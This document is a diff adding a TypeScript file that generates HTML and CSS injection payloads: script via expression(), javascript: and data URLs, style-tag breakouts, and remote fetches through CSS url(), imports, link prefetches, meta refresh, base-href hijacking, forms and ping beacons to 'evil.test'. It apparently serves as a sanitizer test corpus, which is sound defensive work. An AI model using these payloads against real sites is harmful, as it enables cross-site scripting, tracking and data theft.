@@ -1,0 +1,120 @@
+import { entities, hexEntities, type Make } from './spellings.ts';
+
+/** Addresses in style, as rules and as attributes. */
+const declarations: Make[] = [
+  (_, call) => `background:url(${call}.png)`,
+  (_, call) => `background-image:url('${call}.png')`,
+  (_, call) => `background:u\\72l(${call}.png)`,
+  (_, call) => `background:u/**/rl(${call}.png);background:URL(${call}.png)`,
+  (_, call) => `background:image-set("${call}.png" 1x)`,
+  (_, call) => `background:-webkit-image-set(url(${call}.png) 1x)`,
+  (_, call) => `--a:url(${call}.png);background:var(--a)`,
+  (_, call) => `list-style:url(${call}.png);display:list-item`,
+  (_, call) => `list-style-image:url(${call}.png);display:list-item`,
+  (_, call) => `cursor:url(${call}.cur),auto`,
+  (_, call) => `content:url(${call}.png)`,
+  (_, call) => `border-image:url(${call}.png) 9`,
+  (_, call) => `filter:url(${call}.svg#f)`,
+  (_, call) => `mask:url(${call}.svg#m)`,
+  (_, call) => `clip-path:url(${call}.svg#c)`,
+  (_, call) => `shape-outside:url(${call}.png);float:left`,
+  (_, call) => `-moz-binding:url(${call}.xml#x)`,
+  (_, call) => `behavior:url(${call}.htc)`,
+  (run) => `width:expression(${run})`,
+  (run) => `width:ex/**/pression(${run})`,
+  (run) => `background:url(javascript:${run})`,
+  (run) => `background:url("data:text/html,<script>${encodeURIComponent(run)}</script>")`,
+  () => 'position:fixed;inset:0;z-index:2147483647;background:red',
+  () => 'position:absolute;left:-9999px;top:-9999px',
+];
+
+/** Styles that fetch, or cover what is around them. */
+export const stylesheets: Make[] = [
+  ...declarations.map(
+    (declare) => (run: string, call: string) =>
+      `<div style="${declare(run, call).replaceAll('"', '&quot;')}">styled</div>`,
+  ),
+  ...declarations
+    .slice(0, 12)
+    .map((declare) => (run: string, call: string) => `<style>*{${declare(run, call)}}</style>`),
+  (_, call) => `<style>@import url(${call}.css);</style>`,
+  (_, call) => `<style>@import "${call}.css";</style>`,
+  (_, call) => `<style>@\\69mport '${call}.css';</style>`,
+  (_, call) => `<style>@font-face{font-family:f;src:url(${call}.woff)}*{font-family:f}</style>`,
+  (_, call) => `<style>@namespace url(${call});@charset "utf-7";</style>`,
+  (_, call) => `<style>input[value^=a]{background:url(${call}/a)}</style><input value=abc>`,
+  (_, call) => `<style>@media screen{body{background:url(${call}.png)}}</style>`,
+  (_, call) => `<style>@supports(display:grid){body::after{content:url(${call}.png)}}</style>`,
+  (run) => `<style></style><img src=x onerror=${run}></style>`,
+  (run) => `<style><img title="</style><img src=x onerror=${run}>">`,
+];
+
+const rels = [
+  'stylesheet',
+  'alternate stylesheet',
+  'preload',
+  'prefetch',
+  'dns-prefetch',
+  'preconnect',
+  'modulepreload',
+  'prerender',
+  'icon',
+  'apple-touch-icon',
+  'manifest',
+  'import',
+  'search',
+  'pingback',
+];
+
+/** What a browser fetches by itself. */
+export const fetchers: Make[] = [
+  ...rels.map((rel) => (_: string, call: string) => `<link rel="${rel}" href="${call}" as="image" crossorigin>`),
+  (_, call) => `<meta http-equiv="refresh" content="0;url=${call}">`,
+  (run) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
+  (_, call) => `<META HTTP-EQUIV="Link" Content="<${call}.css>; REL=stylesheet">`,
+  () =>
+    `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><meta http-equiv="Set-Cookie" content="a=b">`,
+  () => `<meta name="referrer" content="unsafe-url"><meta http-equiv="x-dns-prefetch-control" content="on">`,
+  (_, call) => `<base href="${call}/"><img src="relative.png"><a href="relative">relative</a>`,
+  (_, call) => `<base target="_top"><a href="${call}">top</a>`,
+  (_, call) => `<img src="${call}.png">`,
+  (_, call) => `<img src="//${call.slice(8)}.png">`,
+  (_, call) => `<img src="\\\\${call.slice(8)}.png"><img src="/\\${call.slice(8)}.png">`,
+  (_, call) => `<img src="http:${call.slice(6)}.png"><img src="https:${call.slice(8)}.png">`,
+  (_, call) => `<img srcset="${call}.png 1x, ${call}-2.png 2x" sizes="100vw">`,
+  (_, call) => `<img data-remote-src="${call}.png" loading="eager">`,
+  (_, call) => `<img lowsrc="${call}.png" dynsrc="${call}.avi" longdesc="${call}" usemap="${call}">`,
+  (_, call) => `<img src="cid:x" style="content:url(${call}.png)">`,
+  (_, call) => `<img attributionsrc="${call}" src="x"><img crossorigin src=${call}.png>`,
+  (_, call) => `<picture><source srcset="${call}.webp" type="image/webp"><img src="x"></picture>`,
+  (_, call) => `<video src="${call}.mp4" poster="${call}.png" autoplay preload=auto></video>`,
+  (_, call) => `<video autoplay><source src="${call}.webm"><track default src="${call}.vtt"></video>`,
+  (_, call) => `<audio src="${call}.mp3" autoplay preload=auto></audio><bgsound src="${call}.mid">`,
+  (_, call) => `<input type="image" src="${call}.png"><isindex action="${call}">`,
+  (_, call) => `<body background="${call}.png">`,
+  (_, call) =>
+    `<table background="${call}.png"><tr background="${call}-tr.png"><td background="${call}-td.png">cell</td></tr></table>`,
+  (_, call) => `<th background=${call}.png>cell</th><layer src="${call}"></layer>`,
+  (_, call) => `<iframe src="${call}"></iframe>`,
+  (run) => `<iframe srcdoc="&lt;script&gt;parent.parent.${run}&lt;/script&gt;"></iframe>`,
+  (_, call) => `<iframe srcdoc="<img src=${call}.png>" sandbox="allow-scripts"></iframe>`,
+  (_, call) => `<frameset><frame src="${call}"></frameset>`,
+  (_, call) => `<object data="${call}"></object><param name="movie" value="${call}.swf">`,
+  (_, call) => `<object classid="clsid:0" codebase="${call}.cab" archive="${call}.jar"></object>`,
+  (_, call) => `<embed src="${call}.svg" pluginspage="${call}"><applet code="x" codebase="${call}"></applet>`,
+  (_, call) => `<portal src="${call}"></portal><fencedframe src="${call}"></fencedframe>`,
+  (_, call) => `<svg><image href="${call}.png" width=9 height=9 /><image xlink:href="${call}-2.png" /></svg>`,
+  (_, call) => `<svg><use href="${call}.svg#x"/><filter id=f><feImage href="${call}.png"/></filter></svg>`,
+  (_, call) => `<svg><style>@import '${call}.css'</style><rect fill="url(${call}.svg#p)" width=9 height=9 /></svg>`,
+  (_, call) => `<a href="https://evil.test/target" ping="${call}">real</a>`,
+  (_, call) =>
+    `<map name=x><area href="https://evil.test/target" ping="${call}" shape=default></map><img usemap=#x src=cid:y>`,
+  (_, call) => `<q cite="${call}">q</q><blockquote cite="${call}">b</blockquote><del cite="${call}">d</del>`,
+  (_, call) => `<form action="${call}" method=post><input name=a value=b><input type=submit autofocus></form>`,
+  (_, call) => `<form id=f></form><button form=f formaction="${call}" formmethod=post>send</button>`,
+  (_, call) => `<html manifest="${call}.appcache"><head profile="${call}"></head></html>`,
+  (_, call) => `<xml id=x src="${call}.xml"></xml><div datasrc=#x datafld=y dataformatas=html></div>`,
+  (_, call) => `<marquee behavior=x><img src=${call}.png></marquee>`,
+  (_, call) => `<ruby><rt><img src="${call}.png"></ruby><center><img src=" ${call}.png "></center>`,
+  (_, call) => `<img src="${entities(call)}.png"><img src='${hexEntities(call)}.png'>`,
+];
